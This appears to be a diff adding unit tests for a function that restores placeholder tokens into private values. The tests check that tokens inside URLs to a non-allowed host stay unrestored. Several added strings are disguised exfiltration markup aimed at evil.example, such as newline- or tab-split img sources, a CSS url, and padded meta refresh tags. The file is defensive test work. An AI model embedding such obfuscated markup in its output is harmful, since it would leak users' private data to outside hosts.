@@ -83,7 +83,16 @@ describe('a token in a URL', () => {
     'https://good.example/?u=https%3A%2F%2Fevil.example/[NAME_8F3A21C4]',
     'https://good.example/?u=//evil.example/[NAME_8F3A21C4]',
   ]
-  for (const text of kept) {
+  const disguised = [
+    '<img src="ht\ntps:evil.example/[NAME_8F3A21C4]">',
+    '<img src="ht&#10;tps:evil.example/[NAME_8F3A21C4]">',
+    '<img src="/\t/evil.example/a b[NAME_8F3A21C4]">',
+    '<div style="background:url(&quot;https://evil.example/ [NAME_8F3A21C4]&quot;)">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/? [NAME_8F3A21C4]">',
+    `<meta content='0; ${' '.repeat(300)}url=https://evil.example/? [NAME_8F3A21C4]'>`,
+    '<p title=\\"see https://evil.example/ [NAME_8F3A21C4]\\">',
+  ]
+  for (const text of [...kept, ...disguised]) {
     it(`stays in ${JSON.stringify(text)}`, () => {
       expect(restoreText(text, values)).toBe(text)
       expect(restoreText(text, values, { urls })).toBe(text)
@@ -116,6 +125,11 @@ describe('a token in a URL of an allowed host', () => {
       expect(restoreText(written, values, { urls })).toBe(expected)
     })
   }
+
+  it('ends with the attribute that it stands in', () => {
+    const text = '<a href="https://evil.example/ a" title=\'x\'>[NAME_8F3A21C4]</a> it\'s = "[NAME_8F3A21C4]"'
+    expect(restoreText(text, values)).toBe(text.replaceAll('[NAME_8F3A21C4]', "Anna (O'Neil) & Co"))
+  })
 
   it('is encoded also if it is not well-formed', () => {
     const map = new Map([['[NAME_8F3A21C4]', '\ud800']])
